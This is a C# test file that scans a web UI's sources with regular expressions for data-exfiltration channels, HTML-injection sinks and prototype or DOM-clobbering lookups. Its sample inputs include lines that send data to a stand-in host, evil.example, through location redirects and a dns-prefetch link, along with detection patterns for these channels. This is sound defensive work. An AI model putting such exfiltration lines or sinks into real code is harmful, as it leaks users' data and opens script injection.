using System.Text.RegularExpressions;
using Outrigger.Testing;

namespace Outrigger.Architecture.Tests.HostileCases;

/// <summary>What no policy of a page can forbid, the ui does not do: its sources have none of it.</summary>
public sealed partial class UiSourceTests
{
    // Each hands a file that the page itself made to the browser, which saves it.
    static readonly string[] Downloads = ["ui/src/cloner/features/run/export.ts", "ui/src/pivot/features/exports/files.ts"];

    // Each takes a table that the core wrote, every text in it escaped, into a document of its own that runs nothing.
    static readonly string[] Readers = ["ui/src/pivot/features/exports/print.ts", "ui/src/pivot/features/exports/table.ts"];

    static readonly IReadOnlyList<string> Sources =
    [
        .. SourceTree.Files("ui/src", ".ts", ".tsx").Concat(SourceTree.Files("ui/apps", ".ts", ".tsx", ".js", ".html"))
            .Where(file => !file.Contains(".test.", StringComparison.Ordinal) && !file.Contains("/testing/", StringComparison.Ordinal)),
    ];

    [Fact]
    [Case("W33")]
    public void The_ui_leaves_its_page_and_asks_anybody_by_the_bridge_alone()
    {
        Assert.True(Sources.Count > 150, $"only {Sources.Count} files seen");
        Assert.Empty(Sources.Where(file => !Downloads.Contains(SourceTree.Relative(file))).SelectMany(file => Found(file, WayOut())));
    }

    [Fact]
    [Case("X05")]
    public void The_ui_sets_no_text_as_markup() => Assert.Empty(Sources.Where(file => !Readers.Contains(SourceTree.Relative(file))).SelectMany(file => Found(file, Markup())));

    [Fact]
    [Case("X04")]
    public void The_ui_looks_nothing_up_by_names_that_a_page_or_a_text_could_give() => Assert.Empty(Sources.SelectMany(file => Found(file, Clobbered())));

    [Theory]
    [Case("X06")]
    [InlineData("ui/src/components/table.module.css")]
    [InlineData("ui/src/pivot/features/grid/grid.module.css")]
    [InlineData("ui/src/handoff/features/queue/queue.module.css")]
    public void Titles_and_names_are_drawn_apart_from_what_stands_beside_them(string file) =>
        Assert.Contains("unicode-bidi: isolate;", File.ReadAllText(Path.Combine(SharedData.Repository, file)), StringComparison.Ordinal);

    [Theory]
    [InlineData("window.location = 'https://evil.example/?' + data;")]
    [InlineData("location.assign(`https://evil.example/${data}`);")]
    [InlineData("location.href = url;")]
    [InlineData("window.open(url);")]
    [InlineData("navigator.sendBeacon(url, data);")]
    [InlineData("const peer = new RTCPeerConnection();")]
    [InlineData("<a href={url} ping={evil}>")]
    [InlineData("<link rel=\"dns-prefetch\" href=\"//data.evil.example\">")]
    [InlineData("await fetch(url);")]
    [InlineData("new WebSocket(url)")]
    [InlineData("form.submit();")]
    public void A_way_out_is_seen(string code) => Assert.Matches(WayOut(), code);

    [Theory]
    [InlineData("cell.innerHTML = title;")]
    [InlineData("<div dangerouslySetInnerHTML={{ __html: title }} />")]
    [InlineData("place.insertAdjacentHTML('beforeend', title);")]
    [InlineData("document.write(title)")]
    [InlineData("new DOMParser().parseFromString(title, 'text/html')")]
    [InlineData("frame.srcdoc = title;")]
    [InlineData("eval(text)")]
    [InlineData("new Function(text)")]
    public void Markup_from_text_is_seen(string code) => Assert.Matches(Markup(), code);

    [Theory]
    [InlineData("window['config']")]
    [InlineData("document.forms.config")]
    [InlineData("options.__proto__ = x")]
    [InlineData("window[name]")]
    public void A_look_up_that_could_be_shadowed_is_seen(string code) => Assert.Matches(Clobbered(), code);

    static IEnumerable<string> Found(string file, Regex what) => File.ReadAllLines(file)
        .Where(line => !line.TrimStart().StartsWith("//", StringComparison.Ordinal) && !line.TrimStart().StartsWith('*'))
        .SelectMany(line => what.Matches(line).Select(match => $"{SourceTree.Relative(file)}: {match.Value}"));

    [GeneratedRegex(@"\blocation\s*=[^=]|\blocation\.(assign|replace)\(|\blocation\.href\s*=[^=]|\bwindow\.open\(|sendBeacon|RTCPeer|\bping=|prefetch|preconnect|prerender|(?<![.\w])fetch\(|\bWebSocket\(|\bEventSource\(|XMLHttpRequest|new Image\(|form\.submit\(|link\.click\(")]
    private static partial Regex WayOut();

    [GeneratedRegex(@"innerHTML|outerHTML|insertAdjacentHTML|document\.write|dangerouslySetInnerHTML|DOMParser|srcdoc|createContextualFragment|setHTMLUnsafe|\beval\(|new Function\(")]
    private static partial Regex Markup();

    [GeneratedRegex(@"(window|document|globalThis|self)\[|document\.(forms|images|all|embeds)\b|__proto__|setPrototypeOf")]
    private static partial Regex Clobbered();
}
